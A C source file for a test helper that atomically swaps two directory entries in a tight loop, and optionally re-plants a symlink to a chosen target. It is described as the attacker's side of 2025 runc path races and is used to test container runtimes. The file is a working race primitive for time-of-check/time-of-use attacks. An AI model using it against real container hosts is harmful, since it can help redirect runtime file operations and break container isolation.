/* path-swapper DIR A B [TARGET]: the attacker's side of the 2025 runc races.
 * Exchanges the directory entries DIR/A and DIR/B (renameat2 RENAME_EXCHANGE,
 * atomic) as fast as it can, so a runtime that looks a path up twice -- or
 * trusts what it looked up -- sees one or the other.  An entry that is
 * momentarily missing (the runtime unlinks and recreates it) just makes one
 * exchange fail.  With TARGET, B is a symlink to TARGET, planted again
 * whenever the runtime has removed it (neither entry is a symlink any more).
 *
 * It writes DIR/.swapper-ready after the first attempt and stops on its own
 * after 120 s, so a test that dies cannot leave it running for long; tests stop
 * it by pid. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    if (argc != 4 && argc != 5) {
        fprintf(stderr, "usage: %s DIR A B [TARGET]\n", argv[0]);
        return 2;
    }
    int dir = open(argv[1], O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (dir < 0) {
        perror(argv[1]);
        return 1;
    }
    time_t end = time(NULL) + 120;
    for (unsigned long n = 0;; n++) {
        renameat2(dir, argv[2], dir, argv[3], RENAME_EXCHANGE);
        struct stat a, b;
        if (argc == 5 && !(fstatat(dir, argv[2], &a, AT_SYMLINK_NOFOLLOW) == 0 && S_ISLNK(a.st_mode)) &&
            !(fstatat(dir, argv[3], &b, AT_SYMLINK_NOFOLLOW) == 0 && S_ISLNK(b.st_mode))) {
            unlinkat(dir, argv[3], 0);
            symlinkat(argv[4], dir, argv[3]);
        }
        if (n == 0) {
            int f = openat(dir, ".swapper-ready", O_CREAT | O_WRONLY | O_CLOEXEC, 0644);
            if (f >= 0)
                close(f);
        }
        if (n % 4096 == 0 && time(NULL) > end)
            return 0;
    }
}
